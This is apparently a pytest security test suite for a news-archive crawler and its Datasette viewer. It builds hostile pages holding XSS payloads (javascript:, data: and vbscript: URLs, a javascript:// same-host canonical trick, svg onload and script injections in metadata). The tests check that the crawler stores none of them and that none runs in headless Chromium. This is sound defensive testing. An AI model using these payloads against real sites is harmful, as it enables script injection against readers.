"""Issue 16, item 3: hostile pages crawled into a real archive, then read in Datasette by headless Chromium.

Every payload calls a beacon (a keepalive request to ``/beacon/<name>`` on the loopback mirror, whose request log
records it with the origin the script ran in), so a script that runs anywhere — on load, on the click of a link, in
a new tab, in the raw page — is seen. The pages carry ``javascript:``/``data:``/``vbscript:`` canonical and image
URLs (``javascript://<same host>/%0A...`` included, which passed for a same-host canonical), ``<script>`` and
``"><svg onload=...>`` in title, author, caption, tags, section and description, on* attributes and inline
scripts. The crawl must store none of those URLs, and the article page must render no href but an http(s) one,
even for rows of an archive written before the fix.
"""

from __future__ import annotations

import html
import json
import time
from functools import partial
from pathlib import Path
from urllib.parse import parse_qs

import pytest

from tests.conftest import query
from tests.faults.hostile_site import (HOST, HostilePage, SAMPLE_ARTICLES, article_html, crawl, failed_pages,
                                       first_photo, paragraphs, private_mirror, publish, stored_articles)
from tests.test_browse import Browse, archive, chrome, copy_database  # noqa: F401 (chrome: a fixture)

BEACON_PATH = "/beacon/"
SETTLE_SECONDS = 0.3  # after a click: time for a script that would run to send its beacon
# keepalive: the beacon is sent even when the click also navigates away (an image request would be cancelled).
FETCH_OPTIONS = "{mode:'no-cors',keepalive:true}"
SAME_HOST_CANONICAL = "/faults/payload-same-host-canonical-10290101.html"
JAVASCRIPT_CANONICAL = "/faults/payload-javascript-canonical-10290102.html"
LEGACY_URL = "javascript://{host}/%0A{beacon}"  # a row written by a crawler from before the fix


class Payloads:
    """The hostile strings of the pages, each calling the beacon named after the field it is put in."""

    def __init__(self, origin: str):
        self.origin = origin
        self.host = origin.split("//", 1)[1]

    def beacon(self, name: str) -> str:
        """Script that reports ``name`` and the origin it runs in (the hostile site's own, or the archive's)."""
        return f"fetch('{self.origin}{BEACON_PATH}{name}?from='+location.origin,{FETCH_OPTIONS})"

    def script(self, name: str) -> str:
        return f"<script>{self.beacon(name)}</script>"

    def svg(self, name: str) -> str:
        return f'"><svg onload="{self.beacon(name)}">'

    def same_host_javascript(self, name: str) -> str:
        return f"javascript://{self.host}/%0A{self.beacon(name)}"


def meta(attribute: str, name: str, value: str) -> str:
    return f'<meta {attribute}="{name}" content="{html.escape(value)}">'


def hostile_figure(image_attribute: str, image_url: str, caption: str, credit: str) -> str:
    return (f'<figure><img {image_attribute}="{html.escape(image_url)}" alt="">'
            f"<figcaption>{html.escape(caption)} Ảnh: {credit}</figcaption></figure>")


def hostile_page(payloads: Payloads, article_name: str, canonical: str, image: str, figure: str,
                 extra_head: str = "") -> str:
    """A sample article with hostile metadata, a hostile figure, inline scripts and on* attributes."""
    p = payloads
    head = (f'<link rel="canonical" href="{html.escape(canonical)}">' + meta("property", "og:image", image)
            + meta("name", "author", p.svg("author")) + extra_head + p.script("head-script"))
    title = html.escape(f"{p.script('title')} {SAMPLE_ARTICLES[article_name]['title']}")
    page = article_html(title, paragraphs(article_name), head=head, figure=figure)
    handlers = f'<p onclick="{p.beacon("onclick")}" onmouseover="{p.beacon("onmouseover")}">'
    inline = f'<img src="/nowhere.png" onerror="{p.beacon("onerror")}">{p.script("body-script")}</article>'
    return page.replace("<p>", handlers, 1).replace("</article>", inline)


def pages(payloads: Payloads) -> list[HostilePage]:
    p = payloads
    _, caption, credit = first_photo("BQN_CHUYENDOISO")
    same_host = hostile_page(
        p, "BQN_CHUYENDOISO", canonical=p.same_host_javascript("canonical-same-host"),
        image=f"javascript:{p.beacon('og-image')}",
        figure=hostile_figure("src", f"javascript:{p.beacon('caption-image')}",
                              f"{p.script('caption')} {caption}", credit))
    _, other_caption, other_credit = first_photo("BQN_VANDON")
    javascript = hostile_page(
        p, "BQN_VANDON", canonical=f" JaVa\tScript:{p.beacon('canonical')}",
        image=f"data:text/html,{p.script('og-image-data')}",
        figure=hostile_figure("data-src", "vbscript:msgbox(1)", f"{p.svg('caption-svg')} {other_caption}",
                              other_credit),
        extra_head=(meta("property", "article:tag", p.svg("tag"))
                    + meta("property", "og:description", p.svg("description"))
                    + meta("property", "article:section", p.script("section"))))
    return [HostilePage(SAME_HOST_CANONICAL, same_host.encode()),
            HostilePage(JAVASCRIPT_CANONICAL, javascript.encode())]


# --- the crawl and the archive ------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """The hostile pages on a private loopback mirror, kept serving (it records the beacons) while the tests run."""
    workdir = tmp_path_factory.mktemp("payloads")
    with private_mirror(workdir) as mirror:
        payloads = Payloads(mirror.url(HOST, ""))
        publish(mirror, pages(payloads))
        yield mirror, payloads, workdir


@pytest.fixture(scope="module")
def crawled(site) -> Path:
    mirror, _, workdir = site
    return crawl(mirror, workdir)


def beacon_requests(mirror) -> list[tuple[str, str | None]]:
    """(beacon path, origin the script ran in) of every beacon the mirror received: the payloads that ran."""
    return [(r["path"], parse_qs(r["query"]).get("from", [None])[0]) for r in mirror.requests()
            if r["path"].startswith(BEACON_PATH)]


def ran_outside(mirror, site_origin: str) -> list[tuple[str, str | None]]:
    """The payloads that ran anywhere but on the hostile site itself (whose own scripts run there when a reader
    follows "Original article": that is the site, not the archive)."""
    return [beacon for beacon in beacon_requests(mirror) if beacon[1] != site_origin]


def test_hostile_pages_are_archived_without_their_non_http_urls(site, crawled):
    mirror, p, _ = site
    articles = stored_articles(crawled, mirror)
    assert set(articles) == {SAME_HOST_CANONICAL, JAVASCRIPT_CANONICAL}, failed_pages(crawled)
    same_host, javascript = articles[SAME_HOST_CANONICAL], articles[JAVASCRIPT_CANONICAL]
    # The javascript:// "same-host canonical" is not the archive key: the fetched URL is.
    assert same_host["url"] == same_host["fetched_url"] == p.origin + SAME_HOST_CANONICAL
    assert javascript["url"] == javascript["fetched_url"] == p.origin + JAVASCRIPT_CANONICAL
    assert same_host["image"] is None and javascript["image"] is None  # javascript: and data: og:image
    _, caption, credit = first_photo("BQN_CHUYENDOISO")
    assert json.loads(same_host["captions"]) == [
        {"image": None, "caption": f"{p.script('caption')} {caption}", "credit": credit}]
    _, caption, credit = first_photo("BQN_VANDON")
    assert json.loads(javascript["captions"]) == [
        {"image": None, "caption": f"{p.svg('caption-svg')} {caption}", "credit": credit}]
    # Markup in text fields is kept as text (Datasette escapes it), not stripped.
    assert same_host["title"] == f"{p.script('title')} {SAMPLE_ARTICLES['BQN_CHUYENDOISO']['title']}"
    assert json.loads(javascript["tags"]) == [p.svg("tag")]
    assert json.loads(javascript["categories"]) == [p.script("section")]
    assert javascript["description"] == p.svg("description")
    # No canonical alias either: nothing points at a javascript: URL.
    assert query(crawled, "SELECT url, duplicate_of FROM duplicates") == []
    assert failed_pages(crawled) == []


# --- in Datasette, in headless Chromium -----------------------------------------------------------------------
@pytest.fixture(scope="module")
def legacy_url(site) -> str:
    _, p, _ = site
    return LEGACY_URL.format(host=p.host, beacon=p.beacon("legacy-url"))


@pytest.fixture(scope="module")
def served_db(site, crawled, legacy_url) -> Path:
    """A copy of the crawl's archive (under the name the metadata expects) plus rows as a crawler from before
    the fix stored them: a javascript:// article URL, a javascript: caption image, a javascript: duplicate."""
    _, p, workdir = site
    db = copy_database(crawled, workdir / "served" / "archive.db")
    [row] = query(db, "SELECT site, text, first_seen, last_seen FROM articles WHERE url = ?",
                  [p.origin + SAME_HOST_CANONICAL])
    store = archive(db)
    with store.transaction():
        store.save_article({**row, "url": legacy_url, "title": "A row of an old archive", "content_hash": "legacy",
                            "captions": [{"image": f"javascript:{p.beacon('legacy-caption-image')}",
                                          "caption": "An old caption", "credit": None}]})
        store.save_duplicate({"url": f"javascript:{p.beacon('legacy-duplicate')}", "duplicate_of": legacy_url,
                              "site": row["site"], "kind": "canonical", "similarity": 1.0,
                              "first_seen": row["first_seen"], "last_seen": row["last_seen"]})
    store.close()
    return db


@pytest.fixture(scope="module")
def served(crawled, served_db):
    """Datasette over the copy; the raw pages are read from the crawl's WARC files."""
    server = Browse(served_db, env={"WARC_DIR": str(crawled.parent / "warc")})
    yield server
    server.stop()


# Every URL-valued attribute of the page that is not http(s) (relative ones resolve to the page's own http).
NON_HTTP_ATTRIBUTES_JS = """
return [...document.querySelectorAll('[href], [src], [action], [formaction], [data]')].flatMap(element =>
    ['href', 'src', 'action', 'formaction', 'data'].filter(name => element.hasAttribute(name)).map(name =>
        [element.tagName, name, element.getAttribute(name)])
).filter(([tag, name, value]) => !['http:', 'https:'].includes(new URL(value, document.baseURI).protocol));
"""
EVENT_HANDLER_ATTRIBUTES_JS = """
return [...document.querySelectorAll('*')].flatMap(element =>
    [...element.attributes].filter(a => a.name.startsWith('on')).map(a => [element.tagName, a.name, a.value]));
"""
OPEN_DETAILS_JS = "document.querySelectorAll('details').forEach(details => details.open = true);"


def open_article(driver, url: str):
    """The article page with every <details> open, so that each of its links can be clicked as a reader would."""
    from selenium.webdriver.common.by import By

    driver.get(url)
    driver.execute_script(OPEN_DETAILS_JS)
    return driver.find_elements(By.CSS_SELECTOR, "a[href]")


def click_every_link(driver, url: str, ran) -> int:
    """Click each visible link of the article page in turn (from a fresh load each time); ``ran()`` after each
    click must be empty. Returns how many links were clicked."""
    home, clicked = driver.current_window_handle, 0
    for index in range(len(open_article(driver, url))):
        link = open_article(driver, url)[index]
        if not link.is_displayed():
            continue
        described = f"{link.text!r} ({link.get_attribute('href')})"
        driver.execute_script("arguments[0].scrollIntoView({block: 'center'});", link)
        link.click()
        clicked += 1
        time.sleep(SETTLE_SECONDS)
        for handle in set(driver.window_handles) - {home}:
            driver.switch_to.window(handle)
            driver.close()
        driver.switch_to.window(home)
        assert ran() == [], f"clicking {described} on {url} ran a payload"
    return clicked


def article_page(served, db: Path, url: str) -> str:
    """The Datasette page of the archived article ``url``."""
    [row] = query(db, "SELECT id FROM articles WHERE url = ?", [url])
    return f"{served.base}/archive/articles/{row['id']}"


def test_no_payload_runs_on_load_or_on_any_click(site, served_db, served, legacy_url, chrome):
    from selenium.webdriver.common.by import By

    mirror, p, _ = site
    mirror.clear_log()
    ran = partial(ran_outside, mirror, p.origin)
    for url in (p.origin + SAME_HOST_CANONICAL, p.origin + JAVASCRIPT_CANONICAL, legacy_url):
        page = article_page(served, served_db, url)
        open_article(chrome, page)
        assert chrome.find_element(By.CSS_SELECTOR, "article.archived-article h1").text  # the article page itself
        assert chrome.execute_script(NON_HTTP_ATTRIBUTES_JS) == [], page
        assert chrome.execute_script(EVENT_HANDLER_ATTRIBUTES_JS) == [], page
        time.sleep(SETTLE_SECONDS)
        assert ran() == [], f"loading {page} ran a payload"
        assert click_every_link(chrome, page, ran) >= 3  # at least the site, the raw page, the JSON
    # The detector works: following "Original article" ran the hostile site's own scripts there.
    assert (f"{BEACON_PATH}head-script", p.origin) in beacon_requests(mirror)


def test_stored_markup_is_shown_as_text(site, served_db, served, chrome):
    from selenium.webdriver.common.by import By

    _, p, _ = site
    [article] = query(served_db, "SELECT * FROM articles WHERE url = ?", [p.origin + SAME_HOST_CANONICAL])
    open_article(chrome, article_page(served, served_db, article["url"]))
    page = chrome.find_element(By.CSS_SELECTOR, "article.archived-article")
    assert page.find_element(By.TAG_NAME, "h1").text == article["title"]
    assert page.find_element(By.CSS_SELECTOR, ".byline .author").text == article["author"]
    [caption] = json.loads(article["captions"])
    assert page.find_element(By.CSS_SELECTOR, ".captions .caption").text == caption["caption"]
    assert page.find_element(By.CSS_SELECTOR, "a.original").get_attribute("href") == article["url"]
